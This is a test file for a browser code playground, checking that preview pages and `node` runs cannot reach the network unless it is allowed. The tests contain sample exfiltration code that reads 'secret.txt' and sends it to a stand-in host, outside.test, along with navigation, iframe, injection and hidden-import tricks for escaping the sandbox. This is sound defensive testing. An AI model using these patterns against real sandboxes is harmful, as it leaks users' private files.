// What a project's own code can reach in Chromium, in the preview and by `node`,
// and what happens when the preview's page goes elsewhere or is closed.

import assert from "node:assert/strict";
import { test } from "node:test";
import { packZip } from "../node/archives.mjs";
import { chosen, create, editorText, file, playground, preview, ready, saved, showPreview, shows, terminal } from "./playground-support.mjs";

const { open, url } = playground();

/** What reaches an address outside; the project may be asked there for anything. */
const OUTSIDE = "https://outside.test";

/** A project with a file and a page, in the preview, and what left the browser for `OUTSIDE`. */
async function shown(t, script, { tick = false, ...options } = {}) {
  const opened = await open(t, options);
  const { page, context } = opened;
  const seen = [];
  await context.route(`${OUTSIDE}/**`, (route) => {
    seen.push(new URL(route.request().url()).search);
    return route.fulfill({ headers: { "access-control-allow-origin": "*" }, contentType: "text/html", body: "outside" });
  });
  await create(page, "page");
  await chosen(page, "Import files or archives…", [file("secret.txt", "secret-42"), file("index.html", `<p>project</p><script>${script}</script>`)]);
  await showPreview(page);
  if (tick) await page.check(".preview input[type=checkbox]");
  return { ...opened, seen };
}

/** Tells the console of the preview when all was tried. */
const SEND = `const send = async () => {
  const text = await fetch("secret.txt").then((answer) => answer.text());
  await fetch("${OUTSIDE}/?" + text).then(() => console.log("sent"), () => console.log("kept"));
};`;

async function told(page, text) {
  await page.waitForSelector(`.console:has-text("${text}")`);
}

test("a page reaches the network when that is ticked, and only then", async (t) => {
  // Again and again: the route comes to a new frame some time after the frame.
  const { page, seen } = await shown(t, `${SEND} setInterval(send, 200);`);
  await told(page, "kept");
  assert.deepEqual(seen, []);
  await page.check(".preview input[type=checkbox]");
  await told(page, "sent");
  assert.deepEqual([...new Set(seen)], ["?secret-42"]);
});

// A page once took the files into the document that has the network.
for (const [name, go] of [
  ["the document with the network", (base) => `location.replace("${base}preview-online.html")`],
  ["the document without it", (base) => `location.replace("${base}preview.html?secret-42")`],
  ["the playground", (base) => `location.replace("${base}?secret-42")`],
  ["another site", () => `location.replace("${OUTSIDE}/?secret-42")`],
  ["another site, at once", () => `} , 0); location.replace("${OUTSIDE}/?secret-42"); setTimeout(() => {`],
  ["another site, by a link", () => `const a = document.createElement("a"); a.href = "${OUTSIDE}/?secret-42"; document.body.append(a); a.click()`],
  ["a frame of its own", (base) => `document.body.append(Object.assign(document.createElement("iframe"), { src: "${base}preview-online.html" }))`],
]) {
  test(`a page cannot go to ${name}`, async (t) => {
    const asked = [];
    const { page, seen } = await shown(t, `console.log("begins"); setTimeout(() => { ${go(url())} }, 50); ${SEND} setTimeout(send, 500)`);
    page.on("request", (request) => asked.push(request.url()));
    await told(page, "begins");
    const elsewhere = name !== "a frame of its own";
    if (elsewhere) await page.waitForSelector(".preview-place:has-text('The page went to another address.')");
    else await told(page, "kept");
    assert.deepEqual(seen, []);
    assert.deepEqual(asked.filter((address) => address.includes("secret") || address.includes("online")), []);
    if (!elsewhere) return;
    assert.equal(await page.locator(".preview iframe").isVisible(), false);
    if (name.endsWith("at once")) return;
    await page.click("text=Show the page again");
    await page.waitForSelector(".preview-place:not(:has-text('The page went'))");
    await told(page, "begins");
  });
}

test("a page may load itself again, and places in it are found", async (t) => {
  const script = `
    if (!location.hash) { location.hash = "second"; location.reload(); }
    else { const a = document.createElement("a"); a.href = "#third"; document.body.append(a); a.click(); setTimeout(() => console.log(location.hash), 50); }`;
  const { page } = await shown(t, script);
  await told(page, "#third");
  assert.equal(await page.locator(".preview iframe").isVisible(), true);
});

test("the network is for one project, not for the next one or a run", async (t) => {
  const { page } = await shown(t, "", { tick: true });
  const box = page.locator(".preview input[type=checkbox]");
  assert.equal(await box.isChecked(), true);
  await create(page, "stranger");
  await chosen(page, "Import files or archives…", [file("index.html", `<script>${SEND} send()</script>`), file("secret.txt", "x")]);
  await showPreview(page);
  await told(page, "kept");
  assert.equal(await box.isChecked(), false);
  await saved(page);
  await page.reload();
  await ready(page);
  await showPreview(page);
  await told(page, "kept");
  assert.equal(await box.isChecked(), false);
});

test("a page has no WebRTC of its own without the network", async (t) => {
  const { page } = await shown(t, "console.log('rtc: ' + typeof RTCPeerConnection)");
  await told(page, "rtc: undefined");
  await page.check(".preview input[type=checkbox]");
  await told(page, "rtc: function");
});

test("a page that goes on talking ends with the preview", async (t) => {
  const { page } = await shown(t, "setInterval(() => alert('again'), 100)");
  let count = 0;
  const second = new Promise((resolve) => page.on("dialog", async (dialog) => {
    count += 1;
    if (count >= 2) resolve();
    await dialog.dismiss().catch(() => {});
  }));
  await second;
  await page.evaluate(() => document.querySelector(".preview-toggle").click());
  await page.waitForFunction(() => document.querySelector(".preview iframe") === null);
  const before = count;
  // Longer than several turns of the page's.
  await terminal(page, "sleep 1; echo over");
  await shows(page, "over");
  assert.ok(count <= before + 1, `${count - before} more`);
  await page.click(".preview-toggle");
  await preview(page).locator("text=project").waitFor();
});

test("`node` reaches no network, also by an import that it hides", async (t) => {
  const { page, context } = await open(t);
  const seen = [];
  await context.route(`${OUTSIDE}/**`, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ headers: { "access-control-allow-origin": "*" }, contentType: "text/javascript", body: "export default 1" });
  });
  await create(page, "code");
  await chosen(page, "Import files or archives…", [file("a.js", `
    const attempts = {
      "import": () => new Function("u", "return import(u)")("${OUTSIDE}/import"),
      "eval": () => (0, eval)("import('${OUTSIDE}/eval')"),
      "font": () => new FontFace("x", "url(${OUTSIDE}/font)").load(),
    };
    const names = Object.keys(attempts);
    Promise.allSettled(names.map((name) => attempts[name]())).then((results) => {
      console.log(results.map(({ status }, at) => names[at] + " " + status).join(", ") + ", the rest works: " + [6 * 7, eval("1 + 1")]);
    });`)]);
  await terminal(page, "node a.js > told.txt 2>&1");
  await page.click('.tree [data-path="told.txt"]');
  assert.equal((await editorText(page)).trim(), "import rejected, eval rejected, font rejected, the rest works: 42,2");
  assert.deepEqual(seen, []);
});

/** A project of these files, in the preview. */
async function previewed(t, files) {
  const opened = await open(t);
  const { page } = opened;
  await create(page, "page");
  await chosen(page, "Import files or archives…", { name: "page.zip", mimeType: "application/zip", buffer: Buffer.from(packZip(Object.entries(files).map(([name, text]) => ({ name, content: text })))) });
  await showPreview(page);
  return opened;
}

const SVG = (side) => `<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}"><rect width="9" height="9"/></svg>`;

/** Pages, and what each writes to the console. */
const PAGES = {
  "a script that holds what looks like the end of one": [{
    "index.html": '<script src="a.js"></script><script>console.log("inline", "<\\/script>".length)</script>',
    "a.js": 'const scripts = [1, 2]; for (let i = 0; i<scripts.length; i++) console.log("turn", i);\nconsole.log("</script>".length, /<script/.test("<script"), `<!--${1}<!-- -->`);',
  }, ["turn 0", "turn 1", "9 true <!--1<!-- -->", "inline 9"]],
  "scripts in their order": [{
    "index.html": '<head><script src="late.js" defer></script><script src="first.js"></script></head><script>console.log("second")</script>',
    "first.js": 'console.log("first", document.body)', "late.js": 'console.log("late", document.body.tagName)',
  }, ["first null", "second", "late BODY"]],
  "modules that plain scripts import": [{
    "index.html": '<script src="a.js"></script><script>import("./lib/m.js").then(({ n }) => console.log("inline", n))</script><script type="text/plain">import("./lib/m.js")</script><script>console.log(document.querySelector("[type=\'text/plain\']").textContent)</script>',
    "a.js": 'import("./lib/m.js").then(({ n }) => console.log("file", n));', "lib/m.js": "export const n = 1;",
  }, ['import("./lib/m.js")', "file 1", "inline 1"]],
  "an error with its file": [{
    "index.html": '<script src="broken.js"></script>', "broken.js": '\n\nnull.x;',
  }, [/Cannot read properties of null/]],
  "an error that is reported with its place": [{
    "index.html": '<script type="module" src="main.js"></script>', "main.js": '\ntry { null.x } catch (error) { console.log(error.stack.includes("main.js:2") && !error.stack.includes("data:")) }',
  }, ["true"]],
  "modules, each once, and data": [{
    "index.html": '<script type="module" src="main.js"></script><script type="module">import { count } from "./lib/count.js"; console.log("again", count())</script>',
    "main.js": 'import { count } from "./lib/count.js";\nimport plain from "./data.json";\nimport data from "./data.json" with { type: "json" };\nconsole.log(count(), plain.n, data.n, "<script>".length);\nsetTimeout(() => import("./data.json", { with: { type: "json" } }).then((late) => console.log(late.default === data)), 100)',
    "lib/count.js": 'let n = 0; export const count = () => ++n; console.log("loaded", "</script>".length);',
    "data.json": '{ "n": 7 }',
  }, ["loaded 9", "1 7 7 8", "again 2", "true"]],
  "a map of imports of its own": [{
    "index.html": '<script type="importmap">{ "imports": { "counter": "./lib/count.js" } }</script><script type="module">import { n } from "counter"; import "./main.js"; console.log("own", n)</script>',
    "main.js": 'import { n } from "counter"; console.log("main", n)', "lib/count.js": "export const n = 5;",
  }, ["main 5", "own 5"]],
  "images that scripts and sets name": [{
    "index.html": '<img id="set" srcset="a.svg 1x, b.svg 2x"><div id="place"></div><script src="a.js"></script>',
    "a.svg": SVG(11), "b.svg": SVG(22),
    "a.js": `const loaded = (image) => new Promise((resolve) => { image.onload = () => resolve(image.naturalWidth); image.onerror = () => resolve("none"); });
const own = new Image(); own.src = "b.svg";
const attribute = document.createElement("img"); attribute.setAttribute("src", "./a.svg");
place.innerHTML = '<p><img src="/b.svg"></p>';
Promise.all([loaded(own), loaded(attribute), loaded(place.querySelector("img")), document.getElementById("set").decode().then(() => "set")]).then((all) => console.log(all.join()));`,
  }, ["22,11,22,set"]],
  "requests and workers": [{
    "index.html": '<script src="a.js"></script>', "data.json": '{ "n": 7 }', "work.js": "onmessage = ({ data }) => postMessage(data * 2)",
    "a.js": `(async () => {
  console.log((await (await fetch("data.json")).json()).n);
  for (const none of ["none.json", "constructor"]) await fetch(none).catch((error) => console.log(error.message));
  const request = new XMLHttpRequest(); request.open("GET", "./data.json"); request.responseType = "json";
  await new Promise((resolve) => { request.onload = resolve; request.send(); });
  console.log(request.response.n);
  const worker = new Worker("work.js"); worker.postMessage(21);
  console.log((await new Promise((resolve) => (worker.onmessage = resolve))).data);
})();`,
  }, ["7", "Failed to fetch: the preview has no file none.json for the page", "Failed to fetch: the preview has no file constructor for the page", "7", "42"]],
  "storage until it loads again": [{
    "index.html": '<script src="a.js"></script>',
    "a.js": 'localStorage.setItem("todo", 1); localStorage.more = "x"; console.log(localStorage.todo, localStorage.getItem("none"), localStorage.length, Object.keys(localStorage).join(), "more" in localStorage); delete localStorage.more; sessionStorage.clear(); console.log(localStorage.more === undefined, localStorage.key(0), sessionStorage.length)',
  }, ["1 null 2 todo,more true", "true todo 0"]],
};
for (const [name, [files, lines]] of Object.entries(PAGES)) {
  test(`the preview has ${name}`, async (t) => {
    const { page, problems } = await previewed(t, files);
    await page.waitForFunction((count) => document.querySelectorAll(".console span").length >= count, lines.length);
    const told = await page.locator(".console span").allInnerTexts();
    assert.equal(told.length, lines.length, told.join());
    for (const [index, line] of lines.entries()) {
      if (typeof line === "string") assert.equal(told[index].trim(), line);
      else assert.match(told[index], line);
    }
    assert.deepEqual(problems.filter((problem) => !problem.includes("Cannot read properties of null")), []);
  });
}

test("a link of a page leads to the project's other pages, and to places in them", async (t) => {
  const { page } = await previewed(t, {
    "index.html": '<p>front</p><a href="sub/about.html?x=1#team">about</a>',
    "sub/about.html": '<p>about</p><p style="margin-top: 3000px" id="team">team</p><a href="../">back</a><a id="away" href="none.html">away</a>',
  });
  const inside = preview(page);
  await inside.locator("text=about").click();
  await inside.locator("#team").waitFor();
  assert.equal(await page.locator(".preview select").inputValue(), "sub/about.html");
  await inside.locator("#team").evaluate(async (element) => {
    while (element.getBoundingClientRect().top > innerHeight) await new Promise(requestAnimationFrame);
  });
  await inside.locator("text=back").click();
  await inside.locator("text=front").waitFor();
  assert.equal(await page.locator(".preview select").inputValue(), "index.html");
});

test("a page may name only pages of the project to go to, and floods nothing", async (t) => {
  const { page } = await shown(t, `
    for (const page of ["none.html", 5, null, { includes: 1 }]) parent.parent.postMessage({ kind: "go", page, fragment: {} }, "*");
    for (let i = 0; i < 200000; i++) console.log("line", i);`);
  await told(page, "What follows is not shown here.");
  assert.equal(await page.locator(".console span").count(), 500);
  assert.equal(await page.locator(".preview select").inputValue(), "index.html");
});
